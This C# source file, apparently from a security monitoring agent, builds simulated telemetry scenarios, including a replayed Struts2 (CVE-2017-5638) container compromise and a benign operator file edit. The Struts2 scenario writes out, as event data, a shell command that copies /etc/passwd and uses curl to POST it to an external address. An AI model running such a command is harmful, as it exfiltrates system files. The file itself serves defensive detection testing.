namespace Platform.Agent.Simulation;

/// <summary>One thing that happened in a scenario, in order; a file access names the process that did it (for FIM).</summary>
public sealed record SimulatedStep(TelemetryEvent Event, FimProcess? Process = null);

/// <summary>A scenario as it is replayed: what happened, and the inventory the node had meanwhile.</summary>
public sealed record SimulatedScenario(string Name, IReadOnlyList<SimulatedStep> Steps, IReadOnlyList<ContainerInventory> Containers, IReadOnlyList<ImageInventory> Images);

/// <summary>
/// The scenarios <c>simulate</c> replays: realistic sequences of what a node's collectors would see, placed in the
/// recent past (ending now) so they fall inside the api's window, with event ids unique to the run.
/// </summary>
public static class Scenarios
{
    public const string Struts2 = "struts2";
    public const string HostFim = "host-fim";

    public static IReadOnlyList<string> Names { get; } = [Struts2, HostFim];

    public static SimulatedScenario Build(string name, DateTimeOffset end, string run) => name switch
    {
        Struts2 => Struts2Compromise(end, run),
        HostFim => HostFimEdit(end, run),
        _ => throw new ArgumentException($"No scenario '{name}'; there are: {string.Join(", ", Names)}.", nameof(name)),
    };

    /// <summary>
    /// The Struts2 container compromise (CVE-2017-5638): the app (java) talks to mysql:3306 and vault:8200 as usual, then
    /// a crafted Content-Type makes java start a shell, which copies /etc/passwd to /tmp and curl POSTs it to an
    /// external address. The container runs privileged (a common shortcut, and what makes this the worst case: it can take
    /// over its host) and has MYSQL_PASSWORD in its environment (its name is reported, never its value).
    /// </summary>
    private static SimulatedScenario Struts2Compromise(DateTimeOffset end, string run)
    {
        var container = new ContainerRef { Id = "7f9c2ba4e88f", Name = "web-7f9c", Image = "struts2-app:2.5" };
        var t0 = end.AddSeconds(-30);
        var steps = new Timeline(run, "s2", container);
        var java = steps.Start(t0, 4101, 1, null, "/usr/bin/java", ["java", "-Xmx512m", "-jar", "/opt/app/struts2-app.jar"], "app", 1000, "/opt/app");
        steps.Listen(t0.AddSeconds(1), java, 8080);
        steps.Dns(t0.AddSeconds(2), java, "mysql", "10.0.3.20");
        steps.Connect(t0.AddSeconds(2.1), java, "10.0.3.7", 41010, "10.0.3.20", 3306);
        steps.Dns(t0.AddSeconds(3), java, "vault", "10.0.3.21");
        steps.Connect(t0.AddSeconds(3.1), java, "10.0.3.7", 41012, "10.0.3.21", 8200);

        var attack = t0.AddSeconds(20);
        var sh = steps.Start(attack, 4230, java.Pid, "java", "/bin/sh", ["sh", "-c", "cp /etc/passwd /tmp/passwd && curl -s -X POST --data-binary @/tmp/passwd http://203.0.113.9/upload"], "app", 1000, "/opt/app");
        var cp = steps.Start(attack.AddMilliseconds(40), 4231, sh.Pid, "sh", "/bin/cp", ["cp", "/etc/passwd", "/tmp/passwd"], "app", 1000, "/opt/app");
        steps.File(attack.AddMilliseconds(45), cp, "/etc/passwd", FimOperation.Read);
        steps.File(attack.AddMilliseconds(46), cp, "/tmp/passwd", FimOperation.Create);
        steps.File(attack.AddMilliseconds(47), cp, "/tmp/passwd", FimOperation.Write);
        steps.Exit(attack.AddMilliseconds(50), cp, 0);
        var curl = steps.Start(attack.AddMilliseconds(60), 4232, sh.Pid, "sh", "/usr/bin/curl", ["curl", "-s", "-X", "POST", "--data-binary", "@/tmp/passwd", "http://203.0.113.9/upload"], "app", 1000, "/opt/app");
        steps.File(attack.AddMilliseconds(70), curl, "/tmp/passwd", FimOperation.Read);
        steps.Connect(attack.AddSeconds(1), curl, "10.0.3.7", 51514, "203.0.113.9", 80);
        steps.Exit(attack.AddSeconds(1.4), curl, 0);
        steps.Exit(attack.AddSeconds(1.5), sh, 0);

        const string digest = "sha256:4f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f";
        return new SimulatedScenario(Struts2, steps.Steps,
            [new ContainerInventory
            {
                Id = container.Id, Name = container.Name, Image = container.Image, ImageDigest = digest, Privileged = true, Capabilities = ["NET_BIND_SERVICE"],
                HostNetwork = false, HostPid = false,
                Environment = [new EnvironmentVariable { Name = "MYSQL_PASSWORD", Secret = true }, new EnvironmentVariable { Name = "JAVA_OPTS", Secret = false }],
                Ports = [new ExposedPort { Port = 8080, Protocol = NetworkProtocol.Tcp }],
            }],
            [new ImageInventory
            {
                Name = "struts2-app:2.5", Digest = digest,
                Vulnerabilities = [new Vulnerability { Cve = "CVE-2017-5638", Severity = VulnerabilitySeverity.Critical, Package = "struts2-core", InstalledVersion = "2.3.31", FixedVersion = "2.3.32" }],
            }]);
    }

    /// <summary>On the host, an operator reads /srv/app/application.cfg with cat, then edits it with vi (swap file, write, swap file gone).</summary>
    private static SimulatedScenario HostFimEdit(DateTimeOffset end, string run)
    {
        const string config = "/srv/app/application.cfg";
        const string swap = "/srv/app/.application.cfg.swp";
        var t0 = end.AddSeconds(-20);
        var steps = new Timeline(run, "hf", null);
        var bash = new FimProcess { Pid = 5001, Name = "bash", Executable = "/usr/bin/bash", User = "ops", Uid = 1001 };
        var cat = steps.Start(t0, 5120, bash.Pid, bash.Name, "/usr/bin/cat", ["cat", config], "ops", 1001, "/home/ops");
        steps.File(t0.AddMilliseconds(5), cat, config, FimOperation.Read);
        steps.Exit(t0.AddMilliseconds(8), cat, 0);
        var vi = steps.Start(t0.AddSeconds(6), 5121, bash.Pid, bash.Name, "/usr/bin/vi", ["vi", config], "ops", 1001, "/home/ops");
        steps.File(t0.AddSeconds(6.1), vi, config, FimOperation.Read);
        steps.File(t0.AddSeconds(6.2), vi, swap, FimOperation.Create);
        steps.File(t0.AddSeconds(14), vi, config, FimOperation.Write);
        steps.File(t0.AddSeconds(14.1), vi, swap, FimOperation.Delete);
        steps.Exit(t0.AddSeconds(14.2), vi, 0);
        return new SimulatedScenario(HostFim, steps.Steps, [], []);
    }

    /// <summary>Builds a scenario's steps: processes (known to the steps that follow) and what they do.</summary>
    private sealed class Timeline(string run, string prefix, ContainerRef? container)
    {
        public List<SimulatedStep> Steps { get; } = [];

        private string NextId() => $"sim-{run}-{prefix}-{Steps.Count + 1}";

        public FimProcess Start(DateTimeOffset time, int pid, int ppid, string? parent, string executable, string[] args, string user, long uid, string cwd)
        {
            var process = new FimProcess { Pid = pid, Name = Path.GetFileName(executable), Executable = executable, CommandLine = string.Join(' ', args), User = user, Uid = uid };
            Add(new ProcessStartEvent
            {
                Id = NextId(), Time = time, Container = container, ProcessName = process.Name, Pid = pid, Ppid = ppid, ParentProcessName = parent,
                Executable = executable, Args = args, User = user, Uid = uid, Cwd = cwd,
            });
            return process;
        }

        public void Exit(DateTimeOffset time, FimProcess process, int code) =>
            Add(new ProcessExitEvent { Id = NextId(), Time = time, Container = container, ProcessName = process.Name, Pid = process.Pid, ExitCode = code });

        public void File(DateTimeOffset time, FimProcess process, string path, FimOperation operation) =>
            Add(new FileAccessEvent { Id = NextId(), Time = time, Container = container, ProcessName = process.Name, Pid = process.Pid, Path = path, Operation = operation }, process);

        public void Listen(DateTimeOffset time, FimProcess process, int port) =>
            Add(new NetworkListenEvent { Id = NextId(), Time = time, Container = container, ProcessName = process.Name, Pid = process.Pid, Protocol = NetworkProtocol.Tcp, LocalAddress = "0.0.0.0", LocalPort = port });

        public void Connect(DateTimeOffset time, FimProcess process, string local, int localPort, string remote, int remotePort) =>
            Add(new NetworkConnectEvent
            {
                Id = NextId(), Time = time, Container = container, ProcessName = process.Name, Pid = process.Pid, Protocol = NetworkProtocol.Tcp,
                LocalAddress = local, LocalPort = localPort, RemoteAddress = remote, RemotePort = remotePort,
            });

        public void Dns(DateTimeOffset time, FimProcess process, string name, string answer) =>
            Add(new DnsQueryEvent { Id = NextId(), Time = time, Container = container, ProcessName = process.Name, Pid = process.Pid, Name = name, Answers = [answer] });

        private void Add(TelemetryEvent e, FimProcess? process = null) => Steps.Add(new SimulatedStep(e, process));
    }
}
